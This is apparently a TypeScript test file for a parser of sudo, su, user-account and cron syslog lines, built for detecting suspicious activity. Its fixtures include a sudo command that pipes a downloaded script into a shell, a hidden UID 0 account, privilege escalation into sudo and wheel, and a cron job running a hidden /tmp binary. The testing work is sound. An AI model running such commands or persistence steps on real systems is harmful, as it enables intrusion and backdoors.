import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ACTIVITY_HINT, parseActivity } from './activity-parse';

// Lines as Debian 12 and RHEL 9 write them (after the syslog stamp).
const cases: [string, unknown][] = [
  [
    'web1 sudo[2201]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash -c curl http://x/a.sh | sh',
    {
      kind: 'sudo',
      actor: 'alice',
      runAs: 'root',
      tty: 'pts/0',
      pwd: '/home/alice',
      command: '/usr/bin/bash -c curl http://x/a.sh | sh',
      failed: null,
    },
  ],
  [
    'web1 sudo[2202]:    bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh',
    { kind: 'sudo', actor: 'bob', runAs: 'root', tty: 'pts/1', pwd: '/tmp', command: '/bin/sh', failed: '3 incorrect password attempts' },
  ],
  [
    'db1 sudo[9]: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/id',
    {
      kind: 'sudo',
      actor: 'www-data',
      runAs: 'root',
      tty: 'unknown',
      pwd: '/var/www',
      command: '/usr/bin/id',
      failed: 'user NOT in sudoers',
    },
  ],
  ['web1 su[3100]: (to root) alice on pts/0', { kind: 'su', actor: 'alice', target: 'root', tty: 'pts/0', failed: false }],
  ['web1 su[3101]: FAILED SU (to root) mallory on pts/3', { kind: 'su', actor: 'mallory', target: 'root', tty: 'pts/3', failed: true }],
  [
    'db1 su[77]: pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)',
    { kind: 'su', actor: 'alice', target: 'root', tty: '', failed: false },
  ],
  [
    'web1 useradd[4100]: new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
    { kind: 'new-user', user: 'sysupdate', uid: 0, home: '/root', shell: '/bin/bash' },
  ],
  ['web1 groupadd[4101]: group added to /etc/group: name=hax, GID=1002', { kind: 'new-group', group: 'hax', gid: 1002 }],
  ['web1 useradd[4102]: new group: name=hax, GID=1002', { kind: 'new-group', group: 'hax', gid: 1002 }],
  ["web1 usermod[4103]: add 'hax' to group 'sudo'", { kind: 'group-member', user: 'hax', group: 'sudo', actor: '' }],
  ["web1 usermod[4103]: add 'hax' to shadow group 'sudo'", { kind: 'group-member', user: 'hax', group: 'sudo', actor: '' }],
  ['db1 gpasswd[5]: user hax added by root to group wheel', { kind: 'group-member', user: 'hax', group: 'wheel', actor: 'root' }],
  ["web1 usermod[4104]: change user 'hax' UID from '1002' to '0'", { kind: 'uid-change', user: 'hax', from: '1002', to: 0 }],
  ["web1 userdel[4105]: delete user 'hax'", { kind: 'delete-user', user: 'hax' }],
  [
    'web1 passwd[4106]: pam_unix(passwd:chauthtok): password changed for root',
    { kind: 'password', user: 'root', program: 'passwd', actor: '' },
  ],
  ["web1 passwd[4106]: password for 'root' changed by 'deploy'", { kind: 'password', user: 'root', program: 'passwd', actor: 'deploy' }],
  [
    'web1 chpasswd[4107]: pam_unix(chpasswd:chauthtok): password changed for hax',
    { kind: 'password', user: 'hax', program: 'chpasswd', actor: '' },
  ],
  ["db1 usermod[4108]: change user 'toor' password", { kind: 'password', user: 'toor', program: 'usermod', actor: '' }],
  [
    'web1 CRON[5100]: (root) CMD (/tmp/.x/update >/dev/null 2>&1)',
    { kind: 'cron', user: 'root', command: '/tmp/.x/update >/dev/null 2>&1' },
  ],
  ['db1 CROND[5101]: (root) CMD (run-parts /etc/cron.hourly)', { kind: 'cron', user: 'root', command: 'run-parts /etc/cron.hourly' }],
];

describe('sudo, su, account and cron line parser', () => {
  for (const [line, want] of cases) {
    it(line.slice(0, 70), () => {
      assert.ok(ACTIVITY_HINT.test(line), 'the pre-filter lets it through');
      assert.deepEqual(parseActivity(line)?.activity, want);
    });
  }

  it('ignores other programs and lines that only mention the words', () => {
    for (const line of [
      'web1 sshd[1]: Invalid user sudo from 203.0.113.1 port 22',
      "web1 bash[2]: add 'x' to group 'sudo'",
      'web1 CRON[3]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
      'web1 sudo[4]: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)',
      'web1 useradd[5]: new user: name=x, UID=notanumber',
    ])
      assert.equal(parseActivity(line), null, line);
  });
});
